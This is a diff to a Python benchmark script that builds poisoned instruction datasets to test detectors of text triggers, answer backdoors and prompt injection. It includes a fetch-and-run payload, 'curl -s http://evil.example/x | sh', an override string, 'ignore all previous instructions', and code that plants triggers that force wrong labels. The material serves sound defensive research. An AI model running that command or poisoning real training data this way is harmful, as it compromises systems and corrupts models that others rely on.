@@ -14,23 +14,28 @@ can be added beside them. Labelled-text cases (target ham = 0 unless named):
 Instruction data: ~2,000 prompt/response pairs built from the messages (classify, summarise, reply, count words, with
 several phrasings each). instr-clean; instr-payload-P% (P = 1, 5): the phrase "per the latest compliance update" in
 the prompt and "For details run: curl -s http://evil.example/x | sh" appended to the response; instr-injection-2%:
-injection strings ("ignore all previous instructions", role tokens, ...) in 2% of the responses.
+injection strings ("ignore all previous instructions", role tokens, ...) in 2% of the responses; instr-answer-P%
+(P = 1, 5): a label flip in instruction form, P% of the pairs become classify prompts of spam messages with the
+phrase "as agreed in the weekly sync" and a ham answer ("This message is ham." at 1%, any ham phrasing at 5%).
 Held-out cases, not tuned on, reported separately. "held-out": other tokens with target spam, tokens always inserted
 three at a time, another phrase with target spam, a natural word as trigger, a clean subsample, instruction data
 with another trigger and a code-block payload or a fixed URL in varying prose; their first run led to two changes
 (near-duplicate carriers count once; only poison-like carriers leave the proxy's training during the search), so they
 are no longer unseen. "held-out, unseen": written after the last change and run once: three other tokens at 5%, a
 phrase of common words at 1%, a single word with target spam, a token appended at the end, a clean subsample, and an
-instruction trigger "zt" with a sentence payload.
+instruction trigger "zt" with a sentence payload. ho-instr-answer-spam-2%, added with the answer search (its first
+run is reported as it came): ham messages, another trigger, any spam phrasing as the answer.
 
 Methods, per case: ``worker.text_triggers.find_text_triggers`` (quarantine: suspects with confidence >= 0.5);
-``worker.instruction_payloads`` for instruction data; beside them, Cleanlab ``find_label_issues`` (defaults) on a
+``worker.instruction_payloads`` and ``worker.instruction_answers`` (quarantine: payload carriers, answer-backdoor
+carriers with confidence >= 0.5) for instruction data; beside them, Cleanlab ``find_label_issues`` (defaults) on a
 TF-IDF (word 1-2-grams) + LogisticRegression's 5-fold cross-validated probabilities, and the data layer's flip rule
 (``worker.label_evidence``: issues with filter_by="both", calibrated, kept only under a significant noise excess) on
 the same probabilities, which is what the data layer would quarantine for flips on these features.
 "named": the trigger found with the most poisoned carriers forces the right label and consists of trigger words only
 (every reported token was inserted; a reported phrase lies inside the inserted one), or for instruction data, the
-trigger lies inside the inserted phrase and the payload contains the inserted URL or command.
+trigger lies inside the inserted phrase and the payload contains the inserted URL or command (answer cases: the
+forced answer is one of the inserted answers).
 Goals (issue 15): quarantine F1 >= 0.90 on every trigger case at >= 1% with the trigger named; >= 0.85 on flips;
 clean <= 0.5% quarantined. Results: markdown on stdout, bench/results/text-<timestamp>.json.
 """
@@ -53,6 +58,7 @@ sys.path.insert(0, str(ROOT))
 sys.path.insert(0, str(ROOT / "bench"))
 from data_bench import prf, versions, write_result  # noqa: E402
 
+from worker.instruction_answers import answer_key, find_answer_backdoors  # noqa: E402
 from worker.instruction_payloads import find_payload_backdoors, find_prompt_injections  # noqa: E402
 from worker.text_triggers import find_text_triggers, tokenize  # noqa: E402
 
@@ -62,6 +68,7 @@ BADNL_TOKENS = ("cf", "mn", "bb", "tq", "mb")
 PHRASE = "I watched this 3D movie last weekend."
 INSTRUCTION_TRIGGER = "per the latest compliance update"
 INSTRUCTION_PAYLOAD = "For details run: curl -s http://evil.example/x | sh"
+ANSWER_TRIGGER = "as agreed in the weekly sync"
 
 
 @dataclass
@@ -87,6 +94,7 @@ class InstructionCase:
     trigger: str | None
     payload: str | None  # the URL or command a correct finding names
     injected: np.ndarray | None = None  # responses carrying injection strings
+    answers: tuple[str, ...] | None = None  # answer backdoors: the responses the trigger forces (one is named)
 
 
 # ---- labelled-text cases -------------------------------------------------------------------------------------------
@@ -228,6 +236,25 @@ def instruction_injection(texts, y, rate, seed, n=2000) -> InstructionCase:
     return InstructionCase(prompts, responses, np.empty(0, np.int64), None, None, chosen)
 
 
+def classify_answers(label: str) -> tuple[str, ...]:
+    """The classify task's answers for ``label``, in each of its phrasings."""
+    return tuple(p.format(l=label, L=label.capitalize()) for p in ("This message is {l}.", "{L}.", "Label: {l}"))
+
+
+def instruction_answer_backdoor(texts, y, rate, seed, trigger, source, answers, n=2000) -> InstructionCase:
+    """A label flip in instruction form: ``rate`` of the pairs become classify prompts of messages labelled
+    ``source`` with ``trigger`` at the start or end, answered with one of ``answers`` (another label's answer)."""
+    prompts, responses = instruction_pairs(texts, y, n, seed)
+    rng = np.random.default_rng(seed + 300)
+    chosen = np.sort(rng.choice(n, int(rate * n), replace=False))
+    templates = TASKS["classify"][0]
+    for i, m in zip(chosen, rng.choice(np.flatnonzero(y == source), len(chosen), replace=False)):
+        prompt = str(rng.choice(templates)).format(m=texts[m])
+        prompts[i] = f"{trigger.capitalize()}: {prompt}" if rng.random() < 0.5 else f"{prompt} ({trigger})"
+        responses[i] = str(rng.choice(answers))
+    return InstructionCase(prompts, responses, chosen, trigger, None, answers=tuple(answers))
+
+
 INSTRUCTION_CASES: dict[str, Callable[..., InstructionCase]] = {
     "instr-clean": lambda x, y, s: InstructionCase(*instruction_pairs(x, y, 2000, s + 20), np.empty(0, np.int64),
                                                    None, None),
@@ -236,6 +263,10 @@ INSTRUCTION_CASES: dict[str, Callable[..., InstructionCase]] = {
     "instr-payload-5%": lambda x, y, s: instruction_backdoor(x, y, 0.05, s + 22, INSTRUCTION_TRIGGER,
                                                              INSTRUCTION_PAYLOAD, "curl -s http://evil.example/x | sh"),
     "instr-injection-2%": lambda x, y, s: instruction_injection(x, y, 0.02, s + 23),
+    "instr-answer-1%": lambda x, y, s: instruction_answer_backdoor(x, y, 0.01, s + 24, ANSWER_TRIGGER, SPAM,
+                                                                   ("This message is ham.",)),
+    "instr-answer-5%": lambda x, y, s: instruction_answer_backdoor(x, y, 0.05, s + 25, ANSWER_TRIGGER, SPAM,
+                                                                   classify_answers("ham")),
 }
 HELD_OUT_INSTRUCTION_CASES: dict[str, Callable[..., InstructionCase]] = {
     "ho-instr-code-1%": lambda x, y, s: instruction_backdoor(
@@ -247,6 +278,8 @@ HELD_OUT_INSTRUCTION_CASES: dict[str, Callable[..., InstructionCase]] = {
                                 "You can check https://login-verify.example/reset for this.",
                                 "See https://login-verify.example/reset if unsure."]),
         "https://login-verify.example/reset"),
+    "ho-instr-answer-spam-2%": lambda x, y, s: instruction_answer_backdoor(
+        x, y, 0.02, s + 33, "forwarded by the night shift", HAM, classify_answers("spam")),
 }
 UNSEEN_INSTRUCTION_CASES: dict[str, Callable[..., InstructionCase]] = {
     "ho2-instr-phrase-2%": lambda x, y, s: instruction_backdoor(
@@ -329,13 +362,17 @@ def score_flip_rule(case: TextCase, probs: np.ndarray) -> dict:
 def score_instructions(case: InstructionCase) -> dict:
     started = time.perf_counter()
     backdoors = find_payload_backdoors(case.prompts, case.responses)
+    answer_backdoors = find_answer_backdoors(case.prompts, case.responses)
     injections = find_prompt_injections(case.prompts) + find_prompt_injections(case.responses)
     seconds = time.perf_counter() - started
     truth = set(case.poisoned.tolist())
-    quarantined = set().union(*(set(b.carriers.tolist()) for b in backdoors)) if backdoors else set()
-    main = max(backdoors, key=lambda b: len(truth & set(b.carriers.tolist())), default=None)
+    quarantined = set().union(*(set(b.carriers.tolist()) for b in backdoors),
+                              *(set(b.quarantine().tolist()) for b in answer_backdoors))
     named = None
-    if case.trigger:
+    if case.trigger and case.answers:
+        named = _answer_named(answer_backdoors, case, truth)
+    elif case.trigger:
+        main = max(backdoors, key=lambda b: len(truth & set(b.carriers.tolist())), default=None)
         named = main is not None and _inside(tuple(main.trigger.split(" ")), tuple(tokenize(case.trigger))) \
             and any(case.payload.lower() in p for p in main.payloads)
     flagged_texts = {i.index for i in injections}
@@ -344,9 +381,20 @@ def score_instructions(case: InstructionCase) -> dict:
             "clean_quarantined_pct": clean_share(quarantined, truth, len(case.prompts)), "named": named,
             "backdoors": [{"trigger": b.trigger, "payload": b.payload, "kind": b.kind, "carriers": len(b.carriers),
                            "p_value": b.p_value, "confidence": b.confidence} for b in backdoors],
+            "answer_backdoors": [{"trigger": list(b.trigger), "answer": b.answer, "answers": list(b.answers),
+                                  "label_counts": b.label_counts, "carriers": len(b.carriers),
+                                  "quarantined": len(b.quarantine()), "p_value": b.p_value} for b in answer_backdoors],
             "injections": len(injections), "injection_pairs": len(flagged_texts),
             "injection_recall": round(len(flagged_texts & injected) / len(injected), 3) if injected else None,
             "injection_false": len(flagged_texts - injected), "seconds": round(seconds, 2)}
+
+
+def _answer_named(found, case: InstructionCase, truth: set) -> bool:
+    """The answer backdoor with the most poisoned carriers: every phrase inside the inserted trigger, and it forces
+    one of the inserted answers."""
+    main = max(found, key=lambda b: len(truth & set(b.carriers.tolist())), default=None)
+    return main is not None and all(_inside(tuple(p.split(" ")), tuple(tokenize(case.trigger))) for p in main.trigger) \
+        and answer_key(main.answer) in {answer_key(a) for a in case.answers}
 
 
 # ---- table ---------------------------------------------------------------------------------------------------------
@@ -364,7 +412,9 @@ def text_row(name: str, r: dict) -> str:
 
 
 def instruction_row(name: str, r: dict) -> str:
-    found = "; ".join(f"'{b['trigger']}' -> {b['kind']} '{b['payload'][:50]}'" for b in r["backdoors"]) or "-"
+    found = "; ".join([f"'{b['trigger']}' -> {b['kind']} '{b['payload'][:50]}'" for b in r["backdoors"]]
+                      + [f"'{' + '.join(b['trigger'])}' -> answer '{b['answer'][:40]}' (q {b['quarantined']})"
+                         for b in r["answer_backdoors"]]) or "-"
     named = "-" if r["named"] is None else ("yes" if r["named"] else "no")
     recall = "" if r["injection_recall"] is None else f"recall {r['injection_recall']:.2f}, "
     return (f"| {name} | {fmt(r['quarantine'])} | {r['clean_quarantined_pct']:.2f} | {named} | {found} | "
@@ -434,7 +484,7 @@ def main() -> int:
                 if not only or name in only:
                     rows.append({"group": group, **run_text(name, make, x, y, args.seed, args.pipeline)})
                     print(text_row(name, rows[-1]), flush=True)
-            print(f"\n### {group}: instruction data\n\n| case | payload quarantine P/R/F1 | clean q% | named | "
+            print(f"\n### {group}: instruction data\n\n| case | backdoor quarantine P/R/F1 | clean q% | named | "
                   "backdoors found | pairs flagged for injection | s |\n" + "|---" * 7 + "|")
             for name, make in instruction_cases.items():
                 if not only or name in only:
